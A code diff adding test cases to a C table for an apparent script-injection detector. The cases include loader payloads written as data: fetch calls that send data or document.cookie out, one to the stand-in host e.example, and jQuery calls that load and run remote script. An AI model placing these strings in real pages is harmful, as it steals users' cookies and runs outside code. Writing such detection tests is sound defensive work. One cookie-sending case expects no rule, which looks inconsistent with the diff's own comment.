@@ -347,6 +347,21 @@ static const xcase_t js_classes[] = {
     { "<iframe src=https://e.example/login width=100%>", S, "html:<iframe" },
     { "<iframe src=javascript:f() allowfullscreen>", S, "url:javascript" },
     { "<iframe allowfullscreen onload=f()>", S, "html:<iframe onload" },
+    /* loaders: a request to another origin or with a string built at run
+     * time is an attacker's; a fixed path of the site's own is code */
+    { "fetch('//e.example',{method:'POST',body:x})", S, "js:call fetch" },
+    { "fetch(\"https://e.example/\")", S, "js:call fetch" },
+    { "fetch('/log?c='+document.cookie)", S, NULL },
+    { "fetch(`/log?${x}`)", S, "js:call fetch" },
+    { "fetch(\"\\\\e.example\")", S, "js:call fetch" },
+    { "$.getScript('//e.example/x.js')", S, "js:call getscript" },
+    { "jQuery.globalEval('f()')", S, "js:call globaleval" },
+    { "fetch('/api/items').then(r => r.json())", N, NULL },
+    { "await fetch(`/api/items`)", N, NULL },
+    { "$.getScript('plugin.js')", N, NULL },
+    { "fetch('", S, "js:call fetch" },
+    { "fetch('//", S, "js:call fetch" },
+    { "fetch('/a", S, "js:call fetch" },
 };
 
 /* Benign text that looks a little like markup or script. */
